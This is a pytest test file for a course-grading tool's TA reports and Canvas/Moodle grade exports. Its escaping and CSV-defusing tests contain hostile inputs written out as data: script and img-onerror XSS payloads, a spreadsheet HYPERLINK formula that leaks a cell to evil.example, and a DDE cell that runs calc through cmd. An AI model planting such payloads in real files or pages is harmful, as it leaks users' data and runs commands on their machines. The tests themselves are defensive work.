"""What a TA reads and uploads, on a course folder made by hand (no grading): the report puts what needs the
TA's eyes first, each lab has one maximum everywhere (grades.csv, the report, the LMS export), a reason a
submission was not graded is whole in the report, the roster's names reach nbgrader's students, and the export
says (or refuses) whenever it cannot do what was asked, never changing what the LMS holds."""

from __future__ import annotations

import csv
import html
import json
import os
import re
import sys
from pathlib import Path

import pytest

from fuselab.grading.run import cli, pipeline
from fuselab.grading.outputs import export, report
from fuselab.grading.records import handgrading, intake, roster, term
from fuselab.grading.records.results import SubmissionResult

LONG_WHY = "submissions/bo/lab0.ipynb: not a notebook <script>alert(1)</script>\n" + "detail " * 300 + "TAIL-OF-IT"


@pytest.fixture(autouse=True)
def _venv_on_path(monkeypatch):  # nbgrader's gradebook runs alembic from the environment's bin
    monkeypatch.setenv("PATH", f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}")


def _course(tmp_path, lms="canvas", people=None, ids=None):
    """A course of lab0 (a test of 10 points, a written answer of 2): ann graded, bo not graded (a long reason),
    cy on the roster only (missing)."""
    out = tmp_path / "course"
    ids = ids if ids is not None else {"ann": "1001", "bo": "1002"}
    entries = {("ann", "lab0"): term.Entry("ann", "lab0", term.GRADED, lms_id=ids.get("ann"), lms=lms if ids else None),
               ("bo", "lab0"): term.Entry("bo", "lab0", term.NOT_GRADED, why=LONG_WHY, lms_id=ids.get("bo"),
                                          lms=lms if ids else None)}
    (out / "work" / "ann" / "lab0").mkdir(parents=True)
    term.save_entries(out, entries)
    if people is not None:
        roster.save(out, people)
    result = SubmissionResult("ann", "lab0", total=7.0, max_total=10.0, manual_cells=["answer"])
    result.cells = {"test_fused": {"points": 7.0, "max_points": 10.0, "status": "failed", "message": "wrong",
                                   "speed": []}}
    result = SubmissionResult.of(result.to_json())
    pipeline._write_result(out / "work" / "ann" / "lab0" / "result.json", result)
    (out / "course").mkdir()
    from nbgrader.api import Gradebook
    with Gradebook(f"sqlite:///{out / 'course' / 'gradebook.db'}") as gradebook:
        gradebook.add_assignment("lab0")
        gradebook.add_notebook("lab0", "lab0")
        gradebook.add_grade_cell("test_fused", "lab0", "lab0", max_score=10, cell_type="code")
        gradebook.add_grade_cell("answer", "lab0", "lab0", max_score=2, cell_type="markdown")
        gradebook.add_student("ann")
        gradebook.add_submission("lab0", "ann")
        gradebook.find_grade("test_fused", "lab0", "lab0", "ann").auto_score = 7
        gradebook.db.commit()
    return out


def _outputs(out, problems=()):
    entries = term.load_entries(out)
    results = handgrading.apply(term.course_results(out, [], entries), out / "course" / "gradebook.db")
    standings = term.standings(results, entries, roster.load(out))
    class_result = pipeline.ClassResult(out=out, results=results, problems=list(problems))
    class_result.standings = standings
    report.write_grades_csv(results, out / "grades.csv", standings=standings)
    report.write_report(class_result, out)
    return {row["student"]: row for row in csv.DictReader((out / "grades.csv").open(encoding="utf-8"))}


CANVAS = [{"student": "ann", "name": "Ames, Ann", "lms_id": "1001", "lms": "canvas", "email": "",
           "columns": {"Lab 0 (77)": 12.0}},
          {"student": "bo", "name": "Bell, Bo", "lms_id": "1002", "lms": "canvas", "email": "", "columns": {}},
          {"student": "cy", "name": "Chu, Cy", "lms_id": "1003", "lms": "canvas", "email": "", "columns": {}}]


def test_what_to_look_at_comes_first_in_both_reports(tmp_path):
    out = _course(tmp_path, people=CANVAS)
    flagged = SubmissionResult.of({"student": "ann", "lab": "lab0", "flags": ["fused_source: patched timer"],
                                   "cells": {"test_fused": {"points": 0.0, "max_points": 10.0, "status": "crashed",
                                                            "message": "Segfault", "speed": []}}})
    pipeline._write_result(out / "work" / "ann" / "lab0" / "result.json", flagged)
    failed = intake.Problem("ann/lab0.ipynb", "the grader failed on this submission: OSError()", student="ann",
                            lab="lab0", grader_failed=True)
    _outputs(out, problems=[failed])
    for name, table in (("report.md", "| student |"), ("report.html", "<table>")):
        text = (out / name).read_text()
        look = text.index("To look at")
        # before the first lab's table, the reference runs and the summary's figures: right under the summary
        assert look < text.index(table) and look < text.index("lab0-figures.png"), name
        section = text[look:text.index(table)]
        assert "patched timer" in section and "flag" in section                 # a flag
        assert "crashed in test_fused" in section                               # a crash
        assert "the grader failed" in section                                   # a grader failure
        assert "bo/lab0" in section and "not graded" in section                 # an earlier run's not-graded entry
        assert "(not on the student's page: yours to decide): fused_source: patched timer" in html.unescape(section)
    # the TA decides to show ann her flag (flags-shown.txt): the report says it is on her page now
    (out / "flags-shown.txt").write_text("ann/lab0\n")
    _outputs(out, problems=[failed])
    for name in ("report.md", "report.html"):
        text = html.unescape((out / name).read_text())
        assert "(on the student's page: flags-shown.txt names them): fused_source: patched timer" in text, name
        assert "yours to decide" not in text, name


def test_a_lab_has_one_maximum_and_a_not_graded_reason_is_whole_in_the_report(tmp_path):
    out = _course(tmp_path, people=CANVAS)
    rows = _outputs(out)
    # graded, not graded and missing: the lab's maximum is nbgrader's 12 (the written answer in) on every row
    assert {rows[s]["lab0 max"] for s in ("ann", "bo", "cy")} == {"12"}
    assert {rows[s]["max"] for s in ("ann", "bo", "cy")} == {"12"}
    assert rows["ann"]["lab0 total"] == "7" and rows["cy"]["lab0 total"] == "0" and rows["bo"]["lab0 total"] == ""
    md = (out / "report.md").read_text()
    assert "Maximum: 12 points" in md
    assert re.search(r"^\| ann \|.*\*\*7\*\* / 12 \|", md, re.M) and re.search(r"^\| cy \|.* 0 / 12 \|", md, re.M)
    assert re.search(r"^\| bo \|.* - / 12 \|", md, re.M)
    _, maxima = export.nbgrader_scores(out / "course" / "gradebook.db")
    assert maxima["lab0"] == 12
    # the reason is cut in the table and grades.csv (which says where it is whole), whole in the report
    assert "TAIL-OF-IT" not in rows["bo"]["lab0 status"] and "report.html" in rows["bo"]["lab0 status"]
    page = (out / "report.html").read_text()
    row = next(line for line in page.splitlines() if line.startswith("<tr><td>bo</td>"))
    anchor = re.search(r'href="#(why-\d+)"', row).group(1)
    whole = page[page.index(f'id="{anchor}"'):]
    assert "TAIL-OF-IT" in whole and whole.count("detail") >= 300
    assert "<script>" not in page and "&lt;script&gt;" in whole                 # escaped, as every value
    assert "TAIL-OF-IT" in md[md.index('<a id="why-'):]


def test_names_from_folders_stay_text_in_both_reports(tmp_path):
    out = _course(tmp_path)
    name = "eve\n## Grades\r<img src=x onerror=alert(1)>\x1b[2J\u202e|x"
    pipeline._write_result(out / "work" / "ann" / "lab0" / "result.json", SubmissionResult.of(
        {"student": "ann", "lab": "lab0", "cells": {}, "notes": [name]}))
    _outputs(out, problems=[intake.Problem(f"{name}/lab0.ipynb", name, student=name, lab="lab0")])
    page = (out / "report.html").read_text()
    md = (out / "report.md").read_text()
    assert "<img src=x" not in page and "&lt;img src=x" in page
    for text in (page, md):
        assert "\x1b" not in text and "\u202e" not in text and "\r" not in text and "\n## Grades" not in text
    assert "\\<img src=x onerror=alert(1)\\>" in md and "\\|x" in md


def test_the_rosters_names_and_emails_reach_nbgraders_students(tmp_path):
    db = tmp_path / "gradebook.db"
    from nbgrader.api import Gradebook
    with Gradebook(f"sqlite:///{db}") as gradebook:
        gradebook.add_student("smithjohn_1002")
    canvas = tmp_path / "canvas.csv"
    canvas.write_text("Student,ID,SIS User ID,SIS Login ID,Section\n\"Smith, John\",1002,s2,jsmith,A\n"
                      "\"Lee, Ann Marie\",1004,s4,alee,A\n")
    moodle = tmp_path / "moodle.csv"
    moodle.write_text("Identifier,Full name,Email address\nParticipant 77,Bo van Park,bo@uni.edu\n")
    grades = tmp_path / "grades.csv"
    grades.write_text("First name,Last name,Email address\nMary Ann,de la Cruz,mc@uni.edu\n")
    roster.to_gradebook(db, roster.read(canvas) + roster.read(moodle) + roster.read(grades))
    with Gradebook(f"sqlite:///{db}") as gradebook:
        found = {s.id: (s.first_name, s.last_name, s.email) for s in gradebook.students}
    assert found["smithjohn_1002"] == ("John", "Smith", None)
    assert found["leeannmarie_1004"] == ("Ann Marie", "Lee", None)        # on the roster, submitted nothing: there too
    assert found["Bo_van_Park_77"] == ("Bo van", "Park", "bo@uni.edu")
    assert found["Mary_Ann_de_la_Cruz"] == ("Mary Ann", "de la Cruz", "mc@uni.edu")


def test_asking_for_an_lms_the_course_has_no_ids_for_is_an_error(tmp_path, capsys):
    out = _course(tmp_path, people=CANVAS)
    _outputs(out)
    assert cli.main(["export", str(out), "--lms", "moodle"]) == 2
    err = capsys.readouterr().err
    assert "Moodle" in err and "--roster" in err and "participant numbers" in err
    assert not list((out / "export").glob("moodle-*.csv"))
    # not named: what can be written is, and the output says what was not
    plain = _course(tmp_path / "plain", ids={})
    _outputs(plain)
    assert cli.main(["export", str(plain)]) == 0
    said = capsys.readouterr().out
    assert "no LMS file written" in said and "totals.csv" in said
    assert cli.main(["export", str(plain), "--lms", "canvas"]) == 2
    assert "no Canvas file" in capsys.readouterr().err


def test_a_moodle_lab_without_participant_numbers_is_said(tmp_path, capsys):
    out = _course(tmp_path, lms="moodle", ids={"bo": "55"})
    rows = _outputs(out)
    assert rows["ann"]["lms id"] == ""
    done = export.write(out)  # lab0 has one Moodle number (bo's): his row, and what Moodle must hold
    assert (out / "export" / "moodle-lab0.csv").exists() and any("maximum grade must be 12" in n for n in done.notes)


def test_canvas_points_possible_are_never_changed_silently(tmp_path, capsys):
    people = [dict(p, columns={"Lab 0 (77)": 10.0}) for p in CANVAS]  # Canvas's assignment is worth 10
    out = _course(tmp_path, people=people)
    _outputs(out)
    assert cli.main(["export", str(out)]) == 2
    err = capsys.readouterr().err
    assert "12" in err and "10" in err and "--scale" in err and "Lab 0 (77)" in err
    assert not (out / "export" / "canvas-grades.csv").exists()
    assert cli.main(["export", str(out), "--scale"]) == 0
    assert "scaled from 12 points to Canvas's 10" in capsys.readouterr().out
    header, possible, *rows = list(csv.reader((out / "export" / "canvas-grades.csv").open(encoding="utf-8")))
    assert header[5] == "Lab 0 (77)" and possible[5] == "10"                  # Canvas's own points
    by_id = {row[1]: row[5] for row in rows}
    assert float(by_id["1001"]) == pytest.approx(7 * 10 / 12, abs=1e-3) and by_id["1003"] == "0"
    assert by_id["1002"] == ""                                                  # not graded: left as it is


def test_the_export_says_whose_written_answers_still_wait_for_a_person(tmp_path, capsys):
    """nbgrader counts a written answer not graded yet 0: the export wrote such totals (ann 7 of 12 while her
    2-point answer waited) without a word, and a TA uploaded partial grades. Its output says, per lab, how many
    submissions wait and whose (the report's own line); the numbers it writes stay nbgrader's."""
    out = _course(tmp_path, people=CANVAS)
    _outputs(out)
    assert cli.main(["export", str(out)]) == 0
    said = capsys.readouterr().out
    waits = [line for line in said.splitlines() if line.startswith("partial totals: ")]
    assert waits == ["partial totals: lab0: to grade by hand: written answers of 1 submission(s) still to be "
                     "graded in formgrader (docs/ta-guide.md): ann. Their totals in these files count those "
                     "answers 0: export again once they are graded"], said
    assert [row[5] for row in csv.reader((out / "export" / "canvas-grades.csv").open(encoding="utf-8"))
            if row[1] == "1001"] == ["7"]
    assert export.write(out).by_hand == [waits[0].removeprefix("partial totals: ")]
    # an export that stops for a TA's decision says it too, beside the files it did write
    roster.save(out, [dict(p, columns={"Lab 0 (77)": 10.0}) for p in CANVAS])
    assert cli.main(["export", str(out)]) == 2
    assert "wrote " in (said := capsys.readouterr().out) and "partial totals: lab0: " in said and "ann" in said
    # graded in formgrader: nothing waits, the total has the answer's points
    roster.save(out, CANVAS)
    from nbgrader.api import Gradebook
    with Gradebook(f"sqlite:///{out / 'course' / 'gradebook.db'}") as gradebook:
        gradebook.find_grade("answer", "lab0", "lab0", "ann").manual_score = 1.5
        gradebook.db.commit()
    assert cli.main(["export", str(out)]) == 0
    assert "partial totals" not in capsys.readouterr().out
    assert [row[5] for row in csv.reader((out / "export" / "canvas-grades.csv").open(encoding="utf-8"))
            if row[1] == "1001"] == ["8.5"]


def test_a_student_named_points_possible_is_a_student_not_canvas_points(tmp_path):
    """Canvas's "Points Possible" row comes first and has no id. A student whose name reads the same (with an id,
    among the students) was taken for that row: their scores became every assignment's points in Canvas, which
    the export then checked or scaled every grade against, and the student left the roster."""
    path = tmp_path / "canvas.csv"
    path.write_text("Student,ID,SIS User ID,SIS Login ID,Section,Lab 0 (111)\n    Points Possible,,,,,10\n"
                    "\"Smith, John\",1002,s2,jsmith,A,7\nPoints Possible,1009,s9,pp,A,4\n"
                    "\"Student, Test\",1010,,,A,0\n")
    people = roster.read(path)
    assert [p["lms_id"] for p in people] == ["1002", "1009"]  # the test student is Canvas's own, not the class's
    assert all(p["columns"] == {"Lab 0 (111)": 10.0} for p in people), people


CANVAS_HEADERS = {  # Canvas's identity columns are each optional; its totals follow the assignments
    "no SIS": "Student,ID,Section,{labs}",
    "every one": "Student,ID,SIS User ID,SIS Login ID,Integration ID,Root Account,Section,{labs},"
                 "Assignments Current Points,Assignments Final Points,Current Score,Unposted Current Score,"
                 "Final Score,Current Grade,Final Grade",
    "moved": "ID,Section,Student,{labs},Current Points"}


@pytest.mark.parametrize("layout", sorted(CANVAS_HEADERS))
def test_canvas_assignments_are_found_by_name_not_by_position(tmp_path, capsys, layout):
    """The assignments were the columns from the sixth on: a Canvas export without SIS columns lost "Lab 0 (5001)"
    and its 10 points, so the export wrote a new "lab0" column worth 12 and Canvas's 10 went unchecked; one with
    Integration ID and Root Account took those for assignments, its totals too. An assignment is a column Canvas
    names "Title (id)", wherever it stands."""
    header = CANVAS_HEADERS[layout].format(labs="Lab 0 (5001),Lab 1 (5002)")
    names = header.split(",")
    values = {"Student": "Ames, Ann", "ID": "1001", "Section": "A", "Lab 0 (5001)": "7", "Lab 1 (5002)": "3"}
    possible = {"Lab 0 (5001)": "10", "Lab 1 (5002)": "17"}
    path = tmp_path / "canvas.csv"
    identity = ("Student", "ID", "SIS User ID", "SIS Login ID", "Integration ID", "Root Account", "Section")
    canvas_row = {"Student": "    Points Possible", **dict.fromkeys(identity[1:], ""), **possible}
    path.write_text(header + "\n" + ",".join(canvas_row.get(n, "(read only)") for n in names) + "\n"
                    + ",".join(f'"{values[n]}"' if n in values else "" for n in names) + "\n")
    [ann] = roster.read(path)
    assert (ann["lms_id"], ann["name"], ann["section"]) == ("1001", "Ames, Ann", "A")
    assert ann["columns"] == {"Lab 0 (5001)": 10.0, "Lab 1 (5002)": 17.0}
    # the export checks Canvas's points of the lab's own column: 10, not the lab's 12
    people = [dict(ann, student="ann")] + CANVAS[1:]
    out = _course(tmp_path, people=people)
    _outputs(out)
    assert cli.main(["export", str(out)]) == 2
    err = capsys.readouterr().err
    assert "lab0 is worth 12 points, Canvas's \"Lab 0 (5001)\" 10" in err, err


def test_a_canvas_export_without_student_or_id_is_refused_saying_what_to_give(tmp_path):
    for header, lacking in (("Student,SIS User ID,Section,Lab 0 (5001)", "ID column"),
                            ("ID,SIS Login ID,Lab 0 (5001)", "Student column"),
                            ("Name,Lab 0 (5001),Current Score", "Student and ID columns")):
        path = tmp_path / "canvas.csv"
        path.write_text(header + "\nx,1,2,3\n")
        with pytest.raises(roster.RosterError) as refused:
            roster.read(path)
        said = str(refused.value)
        assert f"a Canvas gradebook export without its {lacking}" in said and "Grades > Export" in said, said
    path.write_text("id,name,score\n1,x,2\n")  # not Canvas's: the message names every LMS's export
    with pytest.raises(roster.RosterError, match="Student, ID.*Identifier, Full name"):
        roster.read(path)


@pytest.mark.parametrize("columns", [["Lab 0 Quiz (222)", "Lab 0 Fusion (111)"], ["Lab 0 (111)", "Lab 0 (333)"]])
def test_an_export_never_guesses_between_two_canvas_columns_of_a_lab(tmp_path, capsys, columns):
    """The first column that started like the lab's took its grades: "Lab 0 Quiz" before "Lab 0 Fusion" would have
    had the whole class's quiz grades overwritten by the import. One exact match ("Lab 0") is taken over ones
    that only start so; two that could both be it stop the export, naming them."""
    people = [dict(p, columns=dict.fromkeys(columns, 12.0)) for p in CANVAS]
    out = _course(tmp_path, people=people)
    _outputs(out)
    assert cli.main(["export", str(out)]) == 2
    err = capsys.readouterr().err
    assert all(column in err for column in columns) and "could be lab0" in err, err
    assert not (out / "export" / "canvas-grades.csv").exists()
    exact = [dict(p, columns=dict.fromkeys(["Lab 0 Quiz (222)", "Lab 0 (111)"], 12.0)) for p in CANVAS]
    roster.save(out, exact)
    assert cli.main(["export", str(out)]) == 0
    header = next(csv.reader((out / "export" / "canvas-grades.csv").open(encoding="utf-8")))
    assert "Lab 0 (111)" in header and "Lab 0 Quiz (222)" not in header


def test_moodles_maximum_grade_is_never_exceeded_silently(tmp_path, capsys):
    """The grading worksheet (--roster) says the Moodle assignment's maximum grade (10); the lab is worth 12: Moodle
    would refuse a grade above its 10, so no moodle-lab0.csv is written until the TA decides (as for Canvas's
    points), and --scale writes each grade on Moodle's 10."""
    sheet = [{"student": s, "name": s, "lms_id": n, "lms": "moodle", "email": f"{s}@uni.edu",
              "worksheet": {"late": False, "submitted": None, "maximum": 10.0}}
             for s, n in (("ann", "1001"), ("bo", "1002"), ("cy", "1003"))]
    out = _course(tmp_path, lms="moodle", people=sheet)
    _outputs(out)
    assert cli.main(["export", str(out)]) == 2
    err = capsys.readouterr().err
    assert "no moodle-lab0.csv: lab0 is worth 12 points" in err and "10" in err and "--scale" in err
    assert not (out / "export" / "moodle-lab0.csv").exists()
    assert cli.main(["export", str(out), "--scale"]) == 0
    said = capsys.readouterr().out
    assert "scaled from 12 points to Moodle's maximum grade 10" in said and "grades out of 10" in said
    header, *rows = list(csv.reader((out / "export" / "moodle-lab0.csv").open(encoding="utf-8")))
    by_id = {row[0]: row[3:] for row in rows}
    assert by_id["Participant 1001"] == [f"{round(7 * 10 / 12, 4):g}", "10"]
    assert by_id["Participant 1002"] == ["", "10"] and by_id["Participant 1003"] == ["0", "10"]
    # the same maximum in the worksheet as the lab's: written as it is
    for person in sheet:
        person["worksheet"]["maximum"] = 12.0
    roster.save(out, sheet)
    assert cli.main(["export", str(out)]) == 0
    assert "grades out of 12" in capsys.readouterr().out


def test_a_later_weeks_report_still_says_how_the_instructors_solution_did(tmp_path):
    """Week 2's run grades lab 1 only; lab 0's reference run, kept in the course folder, is still in the report's
    "The instructor's solution on this machine" (it said only this run's labs), a broken one said as broken."""
    out = _course(tmp_path, people=CANVAS)
    (out / "reference" / "lab0").mkdir(parents=True)
    (out / "reference" / "lab0" / "reference.json").write_text(json.dumps(
        {"cells": {"test_fused": {"points": 10.0, "max_points": 10.0}}, "broken": []}))
    _outputs(out)
    for name in ("report.md", "report.html"):
        text = html.unescape((out / name).read_text())
        section = text[text.index("The instructor's solution on this machine"):]
        assert "lab0: 10 / 10 (all correctness tests pass)" in section, name
    (out / "reference" / "lab0" / "reference.json").write_text(json.dumps(
        {"cells": {"test_fused": {"points": 0.0, "max_points": 10.0}}, "broken": ["test_fused"]}))
    _outputs(out)
    assert "BROKEN: test_fused failed" in (out / "report.md").read_text()
    (out / "reference" / "lab0" / "reference.json").write_text('{"cells": 3}')  # unreadable: left out, no stop
    _outputs(out)
    assert "The instructor's solution on this machine" not in (out / "report.md").read_text()


def test_a_build_error_gives_the_compilers_own_line_as_the_reason():
    message = ("NameError: name 'fused' is not defined: cell build_fused, which defines it, failed with BuildError: "
               "fused.cu failed to compile (1 error):\n\nfused.cu: In function 'void k(const float*)':\n"
               "fused.cu:4:56: error: expected ';' before '}' token\n"
               "    4 |     if (i < n) out[i] = a[i]\n      |                             ^")
    result = SubmissionResult.of({"student": "jo", "lab": "lab0", "cells": {
        name: {"points": 0.0, "max_points": 2.0, "status": "failed", "message": message, "speed": []}
        for name in ("test_fused", "test_speedup")}})
    assert report.lost_points(result) == \
        "test_fused, test_speedup: failed (fused.cu:4:56: error: expected ';' before '}' token)"
    traceback = "Traceback (most recent call last):\n  File \"x\", line 3\nAssertionError: out[7] differs"
    result.cells["test_fused"].message = traceback
    assert "test_fused: failed (AssertionError: out[7] differs)" in report.lost_points(result)


def test_a_test_of_many_cases_is_reasoned_by_its_headline_and_first_failing_case():
    """A check over many cases fails with a headline, a line per failing case (how many elements bad, the first),
    its first failing case in detail, then the cases that passed: the report's reason says the headline and the
    failing cases, not the message's last line (a passing case)."""
    import fuselab
    from fuselab.grading.outputs import feedback
    from fuselab.grading.recheck import failures
    from fuselab.labs import lab0

    def all_but_the_last(a, b, e, out):  # the edge bug: a bound that leaves out the last element
        n = out.numel()
        out[: n - 1 if n > 1 else n] = lab0.reference(a, b, e)[: n - 1 if n > 1 else n]

    with pytest.raises(AssertionError) as raised:
        fuselab.check(all_but_the_last, lab0.reference, lambda shape, seed: lab0.make_inputs(shape, seed),
                      [(1,), (7,), (255,), (4099,)], seeds=(0,), name="fused", verbose=False)
    message = failures.verdict_message(raised.value, {"source": "fuselab.check(...)"}, [], 10_000)
    assert message.splitlines()[-1] == "passed: shape=(1,), seed=0"  # what the reason used to quote
    result = SubmissionResult.of({"student": "jo", "lab": "lab0", "cells": {"test_fused": {
        "points": 0.0, "max_points": 2.0, "status": "failed", "message": message, "speed": []}}})
    reason = report.lost_points(result)
    assert reason.startswith("test_fused: failed (CheckFailed: fused: 3 of 4 cases failed. — ✗ shape=(7,) out: 1 "
                             "of 7 bad, first at out[6] ✗ shape=(255,) out: 1 of 255 bad"), reason
    assert "passed" not in reason and len(reason) < 200
    assert feedback.short_reason(message, 160).startswith("CheckFailed: fused: 3 of 4 cases failed. ✗ shape=(7,) "
                                                          "out: 1 of 7 bad, first at out[6]")


def test_the_score_histogram_counts_written_answers_on_the_labs_whole_scale(tmp_path):
    out = _course(tmp_path)
    from nbgrader.api import Gradebook
    with Gradebook(f"sqlite:///{out / 'course' / 'gradebook.db'}") as gradebook:
        gradebook.find_grade("answer", "lab0", "lab0", "ann").manual_score = 1.5
        gradebook.db.commit()
    rows = _outputs(out)
    results = handgrading.apply(term.course_results(out, [], term.load_entries(out)), out / "course" / "gradebook.db")
    scores, maximum = report.score_points(results, "lab0", report.lab_maxima(results, out / "course" / "gradebook.db"))
    # the histogram says what grades.csv says: 7 of the tests + 1.5 written, of 10 + 2
    assert (scores, maximum) == ([8.5], 12.0)
    assert (rows["ann"]["lab0 total"], rows["ann"]["lab0 max"]) == ("8.5", "12")
    assert (out / "lab0-figures.png").stat().st_size > 0


def test_a_failed_nbgrader_export_is_said_not_passed_off_as_todays(tmp_path):
    from fuselab.grading.records import nbgrader_run
    course = tmp_path / "course"
    course.mkdir()
    (course / "gradebook.db").write_bytes(b"not a database, as a disk that filled up mid-write leaves it")
    earlier = tmp_path / "nbgrader-grades.csv"
    earlier.write_text("assignment,student_id,score\nlab0,ann,7\n")
    why = nbgrader_run.export(course, earlier)
    assert why and "nbgrader's export failed" in why and "still an earlier run's" in why
    assert "lab0,ann,7" in earlier.read_text()  # what an earlier run wrote is left, and said to be old
    # the report and the command line say it as a note of the run, not as a student "not graded"
    out = _course(tmp_path / "term")
    _outputs(out, problems=[intake.Problem(str(earlier), why, of_the_run=True)])
    md = (out / "report.md").read_text()
    line = next(line for line in md.splitlines() if "nbgrader's export failed" in line)
    assert "note" in line and "not graded" not in line


def test_a_name_that_is_a_formula_is_text_in_every_csv(tmp_path):
    """Students set their own names in the LMS: one written as a formula (a link out, a command) must reach
    grades.csv, the LMS export and nbgrader's export as text a spreadsheet shows, never runs; numbers stay."""
    from fuselab.grading.outputs.terminal import defuse_csv_file, spreadsheet_cell
    evil = '=HYPERLINK("http://evil.example/?x="&A2,"Click me")'
    people = [dict(CANVAS[0], name=evil), dict(CANVAS[1], name="@SUM(1+1)*cmd|' /C calc'!A0"), CANVAS[2]]
    out = _course(tmp_path, people=people)
    rows = _outputs(out)
    assert rows["ann"]["name"] == "'" + evil and rows["bo"]["name"].startswith("'@SUM")
    export.write(out, scale=True)
    for name in ("canvas-grades.csv", "totals.csv"):
        cells = [c for row in csv.reader((out / "export" / name).open(encoding="utf-8")) for c in row]
        assert not any(c.startswith(("=", "@")) for c in cells) and "'" + evil in cells, (name, cells)
    nbgrader_csv = tmp_path / "nbgrader-grades.csv"
    nbgrader_csv.write_text(f'assignment,student_id,last_name,score\nlab0,ann,"{evil.replace(chr(34), 2 * chr(34))}",'
                            "-1.5\n")
    defuse_csv_file(nbgrader_csv)
    [row] = list(csv.DictReader(nbgrader_csv.open()))
    assert row["last_name"] == "'" + evil and row["score"] == "-1.5"
    assert spreadsheet_cell("-2") == "-2" and spreadsheet_cell(3) == 3 and spreadsheet_cell("+x") == "'+x"
    for spaced in (" =1+1", "\u00a0=1+1", "\uff1d1+1", "\u3000@SUM(1)"):  # after spaces, or full-width
        assert spreadsheet_cell(spaced) == "'" + spaced, spaced
    assert spreadsheet_cell("Ann =1") == "Ann =1"


def test_a_test_a_ta_rescored_says_so_in_the_report(tmp_path):
    """A score changed in formgrader shows in the report as the TA's, beside the grader's, not as the grader's
    "failed"."""
    out = _course(tmp_path)
    from nbgrader.api import Gradebook
    with Gradebook(f"sqlite:///{out / 'course' / 'gradebook.db'}") as gradebook:
        gradebook.find_grade("test_fused", "lab0", "lab0", "ann").manual_score = 9
        gradebook.db.commit()
    rows = _outputs(out)
    assert rows["ann"]["lab0/test_fused"] == "9"
    md = (out / "report.md").read_text()
    assert "9 *by a TA (grader: 7)*" in md and "9 *failed*" not in md, md


def test_extra_credit_a_ta_gives_in_formgrader_counts_as_nbgrader_counts_it(tmp_path):
    """formgrader's extra credit adds to a cell's score in nbgrader's own totals (``Grade.score``) and export:
    grades.csv, the report and ``fuselab export`` count it too, on a test (the grader's score or the TA's, plus
    it) and on a written answer (once it is graded)."""
    out = _course(tmp_path)
    from nbgrader.api import Gradebook
    with Gradebook(f"sqlite:///{out / 'course' / 'gradebook.db'}") as gradebook:
        gradebook.find_grade("test_fused", "lab0", "lab0", "ann").extra_credit = 1.0
        answer = gradebook.find_grade("answer", "lab0", "lab0", "ann")
        answer.manual_score, answer.extra_credit = 1.5, 0.5
        gradebook.db.commit()
        nbgrader_total = gradebook.find_submission("lab0", "ann").score
    rows = _outputs(out)
    assert nbgrader_total == 7 + 1 + 1.5 + 0.5
    assert float(rows["ann"]["lab0 total"]) == nbgrader_total
    assert (rows["ann"]["lab0/test_fused"], rows["ann"]["lab0/answer"]) == ("8", "2")
    assert "by a TA (grader: 7)" in (out / "report.md").read_text()
